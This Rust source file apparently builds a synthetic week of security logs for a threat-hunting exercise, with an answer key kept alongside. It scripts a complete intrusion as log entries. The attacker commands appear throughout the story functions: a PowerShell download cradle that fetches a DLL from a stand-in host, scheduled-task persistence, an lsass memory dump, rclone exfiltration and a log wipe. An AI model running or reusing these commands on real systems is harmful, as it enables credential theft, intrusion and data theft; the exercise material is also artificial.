//! The intrusion that is hidden in the week, step by step. `ANSWERS.md` beside the crate is its answer key; keep the two in
//! step.

use crate::company::{Company, Computer, User};
use crate::desktops::{CMD, EXPLORER, OUTLOOK, POWERSHELL, RUNDLL32, SERVICES, SYSTEM32, WINWORD};
use crate::rng::Rng;
use crate::security::{
    LOG_CLEARED, Logon, OBJECT_ACCESS, SERVICE_INSTALLED, TASK_CREATED, session_id,
};
use crate::servers::encoded;
use crate::signins::{LOCKED, Origin, SUCCESS, WRONG_PASSWORD};
use crate::tables::{Dynamic, SecurityEvent};
use crate::time::{MINUTE, Micros, SECOND, at};
use crate::week::{Actor, Process, Program, Remote, Week, process_id};

/// Where the spray comes from.
pub(crate) const SPRAY_ADDRESSES: [&str; 5] = [
    "203.0.113.17",
    "203.0.113.54",
    "203.0.113.88",
    "203.0.113.131",
    "203.0.113.201",
];
/// What the spray calls itself.
pub(crate) const SPRAY_AGENT: &str =
    "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0";
/// The command and control server.
pub(crate) const C2_NAME: &str = "cdn-sync.example";
const C2_ADDRESS: &str = "203.0.113.66";
/// Where the data goes.
pub(crate) const DROP_NAME: &str = "files.parcel-drop.example";
const DROP_ADDRESS: &str = "203.0.113.140";

/// The document opens.
pub(crate) const FOOTHOLD: Micros = at(3, 9, 14, 22);
const END_OF_STORY: Micros = at(5, 1, 2, 0);

const WHOAMI: Program = Program::new(SYSTEM32, "whoami.exe");
const NET: Program = Program::new(SYSTEM32, "net.exe");
const NLTEST: Program = Program::new(SYSTEM32, "nltest.exe");
const SCHTASKS: Program = Program::new(SYSTEM32, "schtasks.exe");
const TASKLIST: Program = Program::new(SYSTEM32, "tasklist.exe");
const WEVTUTIL: Program = Program::new(SYSTEM32, "wevtutil.exe");
const SEVEN_ZIP: Program = Program::new("C:\\ProgramData\\sync", "7z.exe");
const RCLONE: Program = Program::new("C:\\ProgramData\\sync", "rclone.exe");

const LSASS: &str = "\\Device\\HarddiskVolume3\\Windows\\System32\\lsass.exe";

struct Story<'a> {
    company: &'a Company,
    rng: Rng,
}

/// Adds the intrusion.
pub(crate) fn tell(seed: u64, company: &Company, week: &mut Week) {
    let mut story = Story {
        company,
        rng: Rng::of(seed, "story", &[]),
    };
    story.spray(week);
    story.mailbox(week);
    let implant = story.foothold(week);
    story.beacon(&implant, week);
    story.generated_names(week);
    story.look_around(&implant, week);
    story.dump_credentials(&implant, week);
    story.move_on(&implant, week);
    story.exfiltrate(week);
}

fn proxy(address: &'static str) -> Origin<'static> {
    Origin {
        address: address.into(),
        city: "Montevideo",
        state: "Montevideo",
        country: "UY",
        latitude: -34.9,
        longitude: -56.16,
        network: "64496",
    }
}

impl<'a> Story<'a> {
    fn victim(&self) -> &'a User {
        &self.company.users[self.company.phished]
    }

    /// Tuesday evening into the night: one password for everybody, slowly, then another, from five addresses. It fits
    /// Ingrid Vos, whose second factor was put off when she changed phones.
    fn spray(&mut self, week: &mut Week) {
        let sprayed = self.company.sprayed;
        for (round, start) in [at(1, 22, 10, 0), at(2, 0, 40, 0)].into_iter().enumerate() {
            let mut time = start;
            for (index, user) in self.company.users.iter().enumerate() {
                time += self.rng.range(20, 110) * SECOND;
                let hit = round == 1 && index == sprayed;
                if index % 9 == 4 && !hit {
                    continue;
                }
                let origin = proxy(self.rng.pick::<&'static str>(&SPRAY_ADDRESSES));
                let outcome = match () {
                    () if hit => SUCCESS,
                    () if self.rng.chance(0.04) => LOCKED,
                    () => WRONG_PASSWORD,
                };
                let client = Some(("Office 365 Exchange Online", SPRAY_AGENT));
                week.sign_in(&mut self.rng, user, time, &origin, outcome, client);
            }
        }
    }

    /// Wednesday morning: into her mailbox from Montevideo while she signs in from the office in Rotterdam.
    fn mailbox(&mut self, week: &mut Week) {
        let user = &self.company.users[self.company.sprayed];
        let origin = proxy("203.0.113.88");
        for (minute, app) in [
            (47, "Office 365 Exchange Online"),
            (49, "OfficeHome"),
            (52, "Office 365 SharePoint Online"),
            (78, "Office 365 Exchange Online"),
        ] {
            let time = at(2, 9, minute, 0) + self.rng.range(0, 59) * SECOND;
            week.sign_in(
                &mut self.rng,
                user,
                time,
                &origin,
                SUCCESS,
                Some((app, SPRAY_AGENT)),
            );
        }
        let office = crate::signins::office(user);
        for minute in [21, 58] {
            let time = at(2, 9, minute, 9);
            week.sign_in(&mut self.rng, user, time, &office, SUCCESS, None);
        }
    }

    /// Thursday, 09:14:22: a colleague in Gdansk opens the document that came from her mailbox; Word starts PowerShell,
    /// PowerShell loads a library, the library stays.
    fn foothold(&mut self, week: &mut Week) -> Process {
        let user = self.victim();
        let actor = Actor::of(user);
        let explorer = Process::new(&mut self.rng, &EXPLORER, "C:\\Windows\\Explorer.EXE");
        let outlook = week.start(
            &mut self.rng,
            (at(3, 7, 41, 3), &user.computer, &actor),
            &explorer,
            &OUTLOOK,
            format!("\"{}\"", OUTLOOK.path()),
        );
        let document = format!(
            "\"{}\" /n \"{}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\K2QH71AE\\Demurrage_invoice_0305.docm\" /o \"\"",
            WINWORD.path(),
            user.profile()
        );
        let here = |time| (time, &user.computer, &actor);
        let word = week.start(&mut self.rng, here(FOOTHOLD), &outlook, &WINWORD, document);
        let script = "$c=New-Object Net.WebClient;$d=\"$env:APPDATA\\CdnSync\";mkdir $d -Force|Out-Null;\
                      $c.DownloadFile('https://cdn-sync.example/pkg/7',\"$d\\cdnsync.dll\");rundll32 \"$d\\cdnsync.dll\",Start";
        let command = format!(
            "powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc {}",
            encoded(script)
        );
        let shell = week.start(
            &mut self.rng,
            here(FOOTHOLD + 19 * SECOND),
            &word,
            &POWERSHELL,
            command,
        );
        self.call_home(FOOTHOLD + 21 * SECOND, &shell, &actor, week);
        let library = format!("{}\\AppData\\Roaming\\CdnSync\\cdnsync.dll", user.profile());
        let command = format!("\"C:\\Windows\\System32\\rundll32.exe\" \"{library}\",Start");
        let implant = week.start(
            &mut self.rng,
            here(FOOTHOLD + 27 * SECOND),
            &shell,
            &RUNDLL32,
            command,
        );
        let task = format!(
            "schtasks.exe /create /f /tn \"OneDrive Sync Helper\" /sc onlogon /tr \"rundll32.exe {library},Start\""
        );
        week.start(
            &mut self.rng,
            here(FOOTHOLD + 7 * MINUTE),
            &implant,
            &SCHTASKS,
            task,
        );
        let row = SecurityEvent {
            Account: format!("HALDEN\\{}", user.account).into(),
            SubjectUserName: user.account.clone().into(),
            SubjectDomainName: "HALDEN".into(),
            SubjectUserSid: user.sid.clone().into(),
            ObjectName: "\\OneDrive Sync Helper".into(),
            ..SecurityEvent::default()
        };
        week.log(FOOTHOLD + 7 * MINUTE, &user.computer, TASK_CREATED, row);
        implant
    }

    fn call_home(&mut self, time: Micros, process: &Process, actor: &Actor, week: &mut Week) {
        let computer = &self.victim().computer;
        let controller = self.company.controller(&mut self.rng);
        week.query(controller, computer, time - 30_000, C2_NAME, C2_ADDRESS);
        let remote = Remote {
            address: C2_ADDRESS.into(),
            port: 443,
            url: C2_NAME,
        };
        week.connect(&mut self.rng, (time, computer, actor), process, &remote);
    }

    /// Every minute, give or take a fifth, to the end.
    fn beacon(&mut self, implant: &Process, week: &mut Week) {
        let actor = Actor::of(self.victim());
        let mut time = FOOTHOLD + 30 * SECOND;
        while time < END_OF_STORY {
            self.call_home(time, implant, &actor, week);
            time += self.rng.range(48_000, 72_000) * 1_000;
        }
    }

    /// Twice an hour the implant tries names that its program makes up, in case the first is taken down.
    fn generated_names(&mut self, week: &mut Week) {
        let computer = &self.victim().computer;
        let mut time = FOOTHOLD + 3 * MINUTE;
        while time < END_OF_STORY {
            for _ in 0..self.rng.range(6, 11) {
                let length = self.rng.range(12, 20);
                let letters = b"abcdefghijklmnopqrstuvwxyz0123456789";
                let label: String = (0..length)
                    .map(|_| char::from(*self.rng.pick(letters)))
                    .collect();
                let suffix = *self.rng.pick(&["example", "test", "invalid"]);
                let controller = self.company.controller(&mut self.rng);
                week.query(controller, computer, time, &format!("{label}.{suffix}"), "");
                time += self.rng.range(200, 1_500) * 1_000;
            }
            time += self.rng.range(25, 35) * MINUTE;
        }
    }

    /// Thursday, from 09:31: who am I, who is in charge, where is what.
    fn look_around(&mut self, implant: &Process, week: &mut Week) {
        let user = self.victim();
        let actor = Actor::of(user);
        let shell = (at(3, 9, 31, 2), &user.computer, &actor);
        let shell = week.start(&mut self.rng, shell, implant, &CMD, "cmd.exe");
        for (minute, program, command) in [
            (31, WHOAMI, "whoami.exe /all"),
            (33, NET, "net.exe group \"Domain Admins\" /domain"),
            (36, NLTEST, "nltest.exe /dclist:HALDEN"),
            (38, NET, "net.exe view \\\\SRV-FS01"),
            (44, NET, "net.exe localgroup administrators"),
            (52, TASKLIST, "tasklist.exe /v"),
        ] {
            let time = at(3, 9, minute, 0) + self.rng.range(5, 50) * SECOND;
            week.start(
                &mut self.rng,
                (time, &user.computer, &actor),
                &shell,
                &program,
                command,
            );
        }
    }

    /// Thursday, 15:42:10: the memory of lsass.exe goes into a file, with what Windows has for it. The backup agent's
    /// account had been signed in there.
    fn dump_credentials(&mut self, implant: &Process, week: &mut Week) {
        let user = self.victim();
        let system = Actor::system();
        let backup = self.service_logon("BKP01");
        let time = at(3, 12, 3, 40);
        week.log_on(&mut self.rng, (time, &user.computer), &backup);
        let time = at(3, 15, 42, 3);
        let shell = week.start(
            &mut self.rng,
            (time, &user.computer, &system),
            implant,
            &CMD,
            "cmd.exe /q /c",
        );
        let command = "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 688 C:\\Windows\\Temp\\cdn7.tmp full";
        let time = at(3, 15, 42, 10);
        let dump = week.start(
            &mut self.rng,
            (time, &user.computer, &system),
            &shell,
            &RUNDLL32,
            command,
        );
        let row = SecurityEvent {
            Account: format!("HALDEN\\{}$", user.computer.name).into(),
            SubjectUserName: format!("{}$", user.computer.name).into(),
            SubjectDomainName: "HALDEN".into(),
            SubjectUserSid: "S-1-5-18".into(),
            SubjectLogonId: "0x3e7".into(),
            ObjectName: LSASS.into(),
            ObjectType: "Process".into(),
            AccessMask: "0x1410".into(),
            ProcessId: format!("0x{:x}", dump.id).into(),
            ProcessName: RUNDLL32.path().into(),
            ..SecurityEvent::default()
        };
        week.log(time + 400_000, &user.computer, OBJECT_ACCESS, row);
    }

    /// The stolen service account, from a computer.
    fn service_logon(&self, from: &str) -> Logon<'a> {
        let from = if from.is_empty() {
            &self.victim().computer
        } else {
            self.company.server(from)
        };
        Logon {
            account: "svc-backup".into(),
            sid: "S-1-5-21-2741900335-1182044713-3350981127-1050".into(),
            kind: 3,
            from: Some(from),
            package: "NTLM",
        }
    }

    /// Friday, from 01:05, under cover of the nightly backup: svc-backup signs in to file servers, not from the backup
    /// server but from the desk in Gdansk. The domain controller refuses it.
    fn move_on(&mut self, implant: &Process, week: &mut Week) {
        let user = self.victim();
        let actor = Actor::of(user);
        let logon = self.service_logon("");
        for (minute, name) in [(5, "FS01"), (17, "FS02")] {
            let server = self.company.server(name);
            let time = at(4, 1, minute, 12);
            for (port, later) in [(135, 0), (445, 1)] {
                let full = server.full();
                let remote = Remote {
                    address: server.address.clone().into(),
                    port,
                    url: &full,
                };
                week.connect(
                    &mut self.rng,
                    (time + later * SECOND, &user.computer, &actor),
                    implant,
                    &remote,
                );
            }
            week.log_on(&mut self.rng, (time + 2 * SECOND, server), &logon);
            week.privileges(&mut self.rng, (time + 2 * SECOND, server), &logon);
            self.remote_service(time + 5 * SECOND, server, week);
        }
        let controller = self.company.server("DC01");
        for attempt in 0..3 {
            let time = at(4, 1, 26, 0) + attempt * 40 * SECOND;
            week.fail(&mut self.rng, (time, controller), &logon, "0xc000015b");
        }
    }

    /// A service that is installed from afar, runs the library and is gone.
    fn remote_service(&mut self, time: Micros, server: &Computer, week: &mut Week) {
        let command = "%COMSPEC% /Q /c rundll32.exe C:\\ProgramData\\sync\\cdnsync.dll,Start";
        let row = SecurityEvent {
            Account: "HALDEN\\svc-backup".into(),
            SubjectUserName: "svc-backup".into(),
            SubjectDomainName: "HALDEN".into(),
            SubjectLogonId: session_id(&mut self.rng),
            ServiceName: "WinSyncHelper".into(),
            ServiceFileName: command.into(),
            ..SecurityEvent::default()
        };
        week.log(time, server, SERVICE_INSTALLED, row);
        let system = Actor::system();
        let services = Process {
            id: process_id(&mut self.rng),
            ..Process::new(
                &mut self.rng,
                &SERVICES,
                "C:\\Windows\\system32\\services.exe",
            )
        };
        let shell = "cmd.exe /Q /c rundll32.exe C:\\ProgramData\\sync\\cdnsync.dll,Start";
        let shell = week.start(
            &mut self.rng,
            (time + SECOND, server, &system),
            &services,
            &CMD,
            shell,
        );
        let library = "rundll32.exe C:\\ProgramData\\sync\\cdnsync.dll,Start";
        week.start(
            &mut self.rng,
            (time + 2 * SECOND, server, &system),
            &shell,
            &RUNDLL32,
            library,
        );
    }

    /// Friday, from 22:31: the finance share is packed in pieces on the file server and sent away until 00:46; then the log
    /// is cleared.
    fn exfiltrate(&mut self, week: &mut Week) {
        let server = self.company.server("FS01");
        let system = Actor::system();
        let start = Process::new(
            &mut self.rng,
            &RUNDLL32,
            "rundll32.exe C:\\ProgramData\\sync\\cdnsync.dll,Start",
        );
        let shell = week.start(
            &mut self.rng,
            (at(4, 22, 30, 41), server, &system),
            &start,
            &CMD,
            "cmd.exe",
        );
        for (minute, quarter) in [(31, "q1"), (42, "q2"), (55, "q3"), (67, "q4")] {
            let command = format!(
                "7z.exe a -mx1 -v250m -pTide-Table-9 C:\\ProgramData\\sync\\{quarter}.7z D:\\Shares\\Finance\\2025\\{quarter}\\*"
            );
            week.start(
                &mut self.rng,
                (at(4, 22, minute, 4), server, &system),
                &shell,
                &SEVEN_ZIP,
                command,
            );
        }
        let command = "rclone.exe copy C:\\ProgramData\\sync drop:halden --include *.7z.* --transfers 4 --bwlimit 8M";
        let sender = week.start(
            &mut self.rng,
            (at(4, 23, 15, 20), server, &system),
            &shell,
            &RCLONE,
            command,
        );
        self.send(&sender, server, week);
        let clear = "wevtutil.exe cl Security";
        week.start(
            &mut self.rng,
            (at(5, 0, 52, 8), server, &system),
            &shell,
            &WEVTUTIL,
            clear,
        );
        let row = SecurityEvent {
            Account: "NT AUTHORITY\\SYSTEM".into(),
            SubjectUserName: "SYSTEM".into(),
            SubjectDomainName: "NT AUTHORITY".into(),
            ..SecurityEvent::default()
        };
        week.log(at(5, 0, 52, 8), server, LOG_CLEARED, row);
    }

    /// Piece after piece; the sensor counted the bytes.
    fn send(&mut self, sender: &Process, server: &Computer, week: &mut Week) {
        let system = Actor::system();
        let mut time = at(4, 23, 15, 24);
        while time < at(4, 24, 46, 0) {
            let controller = self.company.controller(&mut self.rng);
            if self.rng.chance(0.25) {
                week.query(controller, server, time - 30_000, DROP_NAME, DROP_ADDRESS);
            }
            let remote = Remote {
                address: DROP_ADDRESS.into(),
                port: 443,
                url: DROP_NAME,
            };
            week.connect(&mut self.rng, (time, server, &system), sender, &remote);
            let bytes = self.rng.range(230_000_000, 262_144_000);
            if let Some(row) = week.network.last_mut() {
                row.AdditionalFields = Dynamic::of(
                    &serde_json::json!({"BytesSent": bytes, "BytesReceived": self.rng.range(2_000, 9_000)}),
                );
            }
            time += self.rng.range(100, 200) * SECOND;
        }
    }
}
